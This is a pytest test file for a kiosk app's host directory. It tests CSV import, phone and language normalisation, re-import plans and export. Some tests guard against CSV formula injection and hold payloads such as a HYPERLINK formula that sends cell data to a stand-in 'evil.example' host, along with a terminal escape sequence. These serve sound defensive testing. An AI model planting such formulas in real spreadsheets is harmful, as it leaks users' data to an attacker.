import io

import pytest

from kiosk.hosts.directory import Change, export_hosts, list_hosts, parse_hosts, plan_hosts, save_hosts
from kiosk.spreadsheet import LineProblem, Row, SpreadsheetError, Table, read_table

HEADER = "name,phone,department,email,language"


def host_table(*lines, header=HEADER):
    return read_table("\n".join([header, *lines]).encode("utf-8"), "hosts.csv")


def parse(*lines, header=HEADER, region="NO"):
    return parse_hosts(host_table(*lines, header=header), region=region)


def host(*, name="Kari Ødegård", phone="+4741234567", department=None, email=None, language=None):
    return {"name": name, "phone": phone, "department": department, "email": email, "language": language}


def exported(db):
    stream = io.StringIO(newline="")
    export_hosts(db, stream)
    return stream.getvalue()


# Columns


@pytest.mark.parametrize(
    "header",
    [
        "name,phone,department,email,language",
        "Navn;Mobil;Avdeling;E-post;Språk",
        "Full name,Phone number,Department,E-mail,Language",
        "Fullt navn\tMobilnummer\tAvdeling\tEpost\tSprak",
        "NAVN,TELEFON,AVDELING,E-POST,SPRÅK",
        "full_name,mobile,department,email,language",
    ],
)
def test_reads_english_and_norwegian_headers(header):
    delimiter = ";" if ";" in header else "\t" if "\t" in header else ","
    line = delimiter.join(["Kari Ødegård", "412 34 567", "Salg", "kari@example.no", "nb"])

    result = parse(line, header=header)

    assert result.hosts == [host(department="Salg", email="kari@example.no", language="nb")]


@pytest.mark.parametrize("header", ["name,department", "phone,department", "navn;avdeling", "who,number"])
def test_a_file_without_a_name_or_phone_column_is_refused(header):
    with pytest.raises(SpreadsheetError, match="needs a column for the name"):
        parse("x,y", header=header)


def test_two_columns_for_the_same_field_are_refused():
    with pytest.raises(SpreadsheetError, match="“phone” and “mobil” both mean phone"):
        parse("Kari,41234567,41234568", header="name,phone,mobil")


def test_unknown_columns_are_ignored_and_reported():
    result = parse("Kari,41234567,CEO", header="name,phone,title")

    assert result.hosts == [{"name": "Kari", "phone": "+4741234567"}]
    assert result.ignored_columns == ["title"]
    assert result.columns_absent == ["department", "email", "language"]


# Values


@pytest.mark.parametrize(
    "typed",
    ["41234567", "412 34 567", "+47 41234567", "+47 412 34 567", "004741234567", "4741234567", "'+4741234567",
     "'41234567", "(+47) 412-34-567"],
)
def test_phone_numbers_are_stored_in_e164(typed):
    assert parse(f"Kari,{typed},,,").hosts[0]["phone"] == "+4741234567"


@pytest.mark.parametrize("typed, e164", [("+44 7400 123456", "+447400123456"), ("+46 70 123 45 67", "+46701234567")])
def test_hosts_may_have_mobile_numbers_from_countries_outside_the_allowed_list(typed, e164):
    assert parse(f"Kari,{typed},,,").hosts[0]["phone"] == e164


def test_numbers_without_country_code_are_read_in_the_given_region():
    assert parse("Sofia,070 123 45 67,,,", region="SE").hosts[0]["phone"] == "+46701234567"


@pytest.mark.parametrize("typed, code", [("NB", "nb"), ("en-GB", "en"), ("nn_NO", "nn"), ("no", "nb"), ("", None)])
def test_languages_become_short_lower_case_codes(typed, code):
    assert parse(f"Kari,41234567,,,{typed}").hosts[0]["language"] == code


def test_empty_optional_cells_become_none():
    assert parse("Kari,41234567,,,").hosts == [host(name="Kari")]


# Rows with problems


@pytest.mark.parametrize(
    "line, message",
    [
        (",41234567,,,", "the name is missing"),
        ("Kari,,,,", "the phone number is missing"),
        ("Kari,22 12 34 56,,,", "the phone number 22 12 34 56 cannot be used: Enter a mobile number."),
        ("Kari,4123,,,", "the phone number 4123 cannot be used: This number is too short."),
        ("Kari,call me,,,", "the phone number call me cannot be used: Enter a mobile number, for example"),
        ("Kari,41234567,,kari(at)example.no,", "the e-mail address kari(at)example.no is not valid"),
        ("Kari,41234567,,kari@localhost,", "the e-mail address kari@localhost is not valid"),
        ("Kari,41234567,,,klingon", "the language klingon is not one we know (use nb, nn, sv"),
        ("K" * 101 + ",41234567,,,", "the name is longer than 100 characters"),
        ('"Kari\nBerg",41234567,,,', "the name contains a line break"),
    ],
)
def test_rows_with_problems_are_reported_with_their_line_numbers(line, message):
    result = parse("Ola,41234568,,,", line)

    assert [error.line for error in result.errors] == [3]
    assert result.errors[0].message.startswith(message)
    assert [h["name"] for h in result.hosts] == ["Ola"]


def test_control_characters_in_a_department_are_refused():
    # Built directly: read_table refuses a CSV like this outright.
    row = Row(2, {"name": "Kari", "phone": "41234567", "department": "IT\x1b[2J"})
    table = Table(["name", "phone", "department"], [row])

    assert parse_hosts(table, region="NO").errors == [
        LineProblem(2, "the department contains a line break or another invisible character")
    ]


def test_a_row_with_several_problems_lists_them_all():
    result = parse(",22123456,,nope,xx")

    assert result.errors[0].message.split("; ") == [
        "the name is missing",
        "the phone number 22123456 cannot be used: Enter a mobile number. "
        "We can only send text messages to mobile phones.",
        "the e-mail address nope is not valid",
        "the language xx is not one we know (use nb, nn, sv, da, fi, en, de, pl, uk, ar)",
    ]


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "'\tcmd", "'=1+1"],
)
def test_r28_import_rejects_a_name_that_starts_with_a_formula_trigger(name):
    quoted = '"' + name.replace('"', '""') + '"'

    result = parse(f"{quoted},41234567,,,")

    assert result.hosts == []
    assert result.errors == [LineProblem(2, "the name starts with =, +, -, @ or a tab, which a spreadsheet would "
                                            "run as a formula")]


def test_a_phone_number_twice_in_the_file_is_an_error_on_the_later_line():
    result = parse("Kari,41234567,,,", "Ola,,,,", "Kari B,412 34 567,,,")

    assert result.errors[1] == LineProblem(4, "the phone number is also on line 2")
    assert [h["name"] for h in result.hosts] == ["Kari"]


def test_an_email_twice_in_the_file_is_an_error_on_the_later_line():
    result = parse("Kari,41234567,,kari@example.no,", "Kari B,41234568,,KARI@example.no,")

    assert result.errors == [LineProblem(3, "the e-mail address is also on line 2")]


# Re-import (issue 11, item 1)


def stored(db):
    return {row["phone"]: row for row in db.query("SELECT name, phone, department, email, language, active FROM "
                                                  "hosts")}


def test_a_reimport_without_a_column_keeps_that_field_of_every_host(db):
    save_hosts(db, [host(department="Salg", email="kari@example.no", language="en"),
                    host(name="Ola", phone="+4791234567", language="sv")])

    result = parse("Kari Ødegård,41234567", "Ola Nordmann,91234567", header="navn,mobil")
    saved = save_hosts(db, result.hosts)

    assert (saved.added, saved.updated, saved.unchanged) == (0, 1, 1)
    assert stored(db)["+4741234567"] == {"name": "Kari Ødegård", "phone": "+4741234567", "department": "Salg",
                                         "email": "kari@example.no", "language": "en", "active": 1}
    assert stored(db)["+4791234567"]["language"] == "sv"


def test_an_empty_cell_in_a_present_column_clears_that_field(db):
    save_hosts(db, [host(department="Salg", language="en")])

    save_hosts(db, parse("Kari Ødegård,41234567,,,", header=HEADER).hosts)

    assert (stored(db)["+4741234567"]["department"], stored(db)["+4741234567"]["language"]) == (None, None)


def test_the_plan_lists_each_changed_field_old_and_new_and_who_is_not_in_the_file(db):
    save_hosts(db, [host(department="Salg", email="kari@example.no"), host(name="Ola", phone="+4791234567"),
                    host(name="Per", phone="+4791234568")])
    db.execute("UPDATE hosts SET active = 0 WHERE phone = '+4791234568'")

    plan = plan_hosts(db, parse("Kari Ødegård,41234567,Finans,kari@example.com,nb", "Åse,41234599,,,",
                                header=HEADER).hosts)

    assert [host["name"] for host in plan.added] == ["Åse"]
    assert [(update.name, update.changes) for update in plan.updated] == [("Kari Ødegård", [
        Change("department", "Salg", "Finans"), Change("email", "kari@example.no", "kari@example.com"),
        Change("language", None, "nb")])]
    assert plan.unchanged == 0
    assert [host.name for host in plan.missing] == ["Ola"]  # Per is deactivated already
    assert db["hosts"].count == 3  # a plan writes nothing


@pytest.mark.parametrize("deactivate", [False, True])
def test_hosts_not_in_the_file_are_deactivated_only_when_asked(db, deactivate):
    save_hosts(db, [host(), host(name="Ola", phone="+4791234567")])

    saved = save_hosts(db, parse("Kari Ødegård,41234567", header="name,phone").hosts, deactivate_missing=deactivate)

    assert saved.deactivated == (1 if deactivate else 0)
    assert stored(db)["+4791234567"]["active"] == (0 if deactivate else 1)
    assert stored(db)["+4741234567"]["active"] == 1


# Export


def test_export_writes_every_host_with_english_headers_and_a_bom(db):
    save_hosts(db, [host(department="Salg", email="kari@example.no", language="nb")])
    save_hosts(db, [host(name="Ola", phone="+4791234567")])

    assert exported(db).splitlines() == [
        "\ufeffname,phone,department,email,language",
        "Kari Ødegård,'+4741234567,Salg,kari@example.no,nb",
        "Ola,'+4791234567,,,",
    ]


def test_r28_export_prefixes_formula_triggers(db):
    save_hosts(db, [host(name="=HYPERLINK(\"https://evil.example\")", department="-Sales", email="@me@example.no")])

    assert exported(db).splitlines()[1] == """"'=HYPERLINK(""https://evil.example"")",'+4741234567,'-Sales,'@me@example.no,"""


def test_export_then_import_gives_back_the_same_hosts(db):
    hosts = [
        host(department="Salg, Oslo", email="kari@example.no", language="nb"),
        host(name="'t Hooft", phone="+447400123456", department='"Quoted"', language="en"),
        host(name="Åse Ærø", phone="+4791234567", department="-", email="ase@example.no", language="nn"),
    ]
    save_hosts(db, hosts)

    result = parse_hosts(read_table(exported(db).encode("utf-8"), "export.csv"), region="NO")

    assert result.errors == []
    assert sorted(result.hosts, key=lambda h: h["phone"]) == sorted(hosts, key=lambda h: h["phone"])


def test_r28_a_hyperlink_name_stored_elsewhere_is_escaped_on_export_and_refused_on_reimport(db):
    save_hosts(db, [host(name='=HYPERLINK("https://evil.example","Click")')])

    result = parse_hosts(read_table(exported(db).encode("utf-8"), "export.csv"), region="NO")

    assert result.hosts == []
    assert result.errors[0].message.startswith("the name starts with =")
    assert len(list_hosts(db)) == 1
